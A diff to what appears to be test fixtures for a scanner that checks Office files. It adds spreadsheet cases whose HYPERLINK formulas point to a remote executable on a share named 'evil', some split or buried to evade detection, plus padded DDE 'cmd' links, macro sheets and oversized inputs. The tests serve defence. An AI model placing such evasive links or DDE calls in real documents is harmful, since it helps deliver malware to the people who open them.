@@ -171,6 +171,10 @@ ORDINARY: dict[str, tuple[str, bytes]] = {
     "a spreadsheet": xlsx(cell("SUM(A1:A9)*2&amp;&quot;a|b&quot;")),
     "a sheet whose name has a stroke": xlsx(cell("'Quý 1|2026'!A1+1")),
     "a link in a sheet": xlsx(cell("HYPERLINK(&quot;https://moj.gov.vn&quot;)"), links=[LINK]),
+    "links by formulas": xlsx(
+        cell('HYPERLINK("https://a.vn/"&amp;A2,"x")&amp;HYPERLINK("mailto:a@b.vn")&amp;HYPERLINK("#a!A1")')
+    ),
+    "a text about links": xlsx(cell('"HYPERLINK(B1)"&amp;A1')),
     "a text that looks like a formula": xlsx(
         '<row r="1"><c t="inlineStr"><is><t>- a | b!</t></is></c></row>'
     ),
@@ -246,6 +250,20 @@ WARNED: dict[str, tuple[str, bytes, str]] = {
             },
             links=[("connections", "c.xml", "")],
         ),
+        "external",
+    ),
+    "a link to a share by a formula": (*xlsx(cell('HYPERLINK("\\\\evil\\a.exe","xem")')), "external"),
+    "a link to a share by a formula in pieces": (
+        *xlsx(cell('HYPERLINK("\\\\"&amp;"evil\\a.exe","xem")')),
+        "external",
+    ),
+    "a link to a share behind an empty piece": (
+        *xlsx(cell('IF(A1,HYPERLINK(""&amp;"\\\\evil\\a.exe"))')),
+        "external",
+    ),
+    "a link to what another cell says": (*xlsx(cell("HYPERLINK(B1)")), "external"),
+    "a link to a share in a large sheet": (
+        *xlsx(empty_rows(20_000) + cell('HYPERLINK("\\\\evil\\a.exe")')),
         "external",
     ),
     "a query with no more than its table": (*xlsx(links=[("queryTable", "q.xml", "")]), "external"),
@@ -361,5 +379,17 @@ REFUSED: dict[str, tuple[str, bytes, str]] = {
     "two parts of one name": (*docx(parts={"word/A.xml": "<a/>", "word/a.xml": "<a/>"}), "damaged"),
     "a program": (*docx(parts={"word/media/a.png": b"MZ\x90\0"}), "holds_another"),
     "a hidden archive": (*docx(parts={"word/media/a.png": b"PK\x03\x04"}), "holds_another"),
+    "a quarter of a million fields": (*docx(field("MERGEFIELD a", result="") * 250_000), "complex"),
+    "hundreds of thousands of formulas": (*xlsx(cell("A1&amp;&quot;|&quot;") * 400_000), "complex"),
+    "a link to a program in a large part": (
+        *xlsx(
+            parts={"xl/a.xml": f'<externalLink>{" " * 2_000_000}<ddeLink ddeService="cmd"/></externalLink>'}
+        ),
+        "commands",
+    ),
+    "a sheet of macros in a large part": (
+        *xlsx(parts={"xl/a.xml": f"<xm:macrosheet xmlns:xm='x'>{' ' * 2_000_000}</xm:macrosheet>"}),
+        "macros",
+    ),
     "a bomb of text": (*xlsx("<row/>" * 12_000_000), "complex"),
 }
